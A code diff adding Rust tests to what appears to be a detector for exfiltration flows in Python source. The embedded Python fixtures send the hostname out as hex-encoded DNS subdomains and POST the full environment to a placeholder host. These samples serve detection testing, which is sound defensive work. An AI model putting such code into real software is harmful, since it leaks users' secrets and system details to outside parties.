@@ -120,3 +120,48 @@ fn cmdclass_override_is_seen() {
         SignalKind::InstallOverride
     ));
 }
+
+#[test]
+fn data_handed_to_a_local_function_reaches_its_sinks() {
+    // DNS exfiltration through a helper: the host name is an argument, the sink is a
+    // lookup of a name built from it inside the helper.
+    let source = "import socket\n\
+        def send(data, kind):\n    hexed = data.encode().hex()\n    \
+        socket.gethostbyname(f'{kind}.{hexed}.x.example.invalid')\n\
+        send(socket.gethostname(), 'h')\n";
+    assert!(
+        has(source, SignalKind::ExfilFlow),
+        "{:?}",
+        kinds(source, true)
+    );
+    let keyword = "import os, requests\n\
+        def post(payload=None):\n    requests.post('https://x.example.invalid', data=payload)\n\
+        post(payload=dict(os.environ))\n";
+    assert!(
+        has(keyword, SignalKind::ExfilFlow),
+        "{:?}",
+        kinds(keyword, true)
+    );
+    let clean =
+        "import socket\ndef send(data):\n    socket.gethostbyname(data)\nsend('pypi.org')\n";
+    assert!(
+        !has(clean, SignalKind::ExfilFlow),
+        "{:?}",
+        kinds(clean, true)
+    );
+}
+
+#[test]
+fn an_environment_handed_on_and_attribute_names_are_not_data() {
+    // virtualenv-shaped: a download helper given `env=os.environ`, then a registry query
+    // built from an attribute of what it returned.
+    let source = "import os\nfrom urllib.request import urlopen\n\
+        def query(distribution):\n    urlopen(f'https://pypi.org/pypi/{distribution}/json')\n\
+        def update():\n    dest = download(name='pip', env=os.environ)\n    query(dest.distribution)\n\
+        update()\n";
+    assert!(
+        !has(source, SignalKind::ExfilFlow),
+        "{:?}",
+        kinds(source, true)
+    );
+}
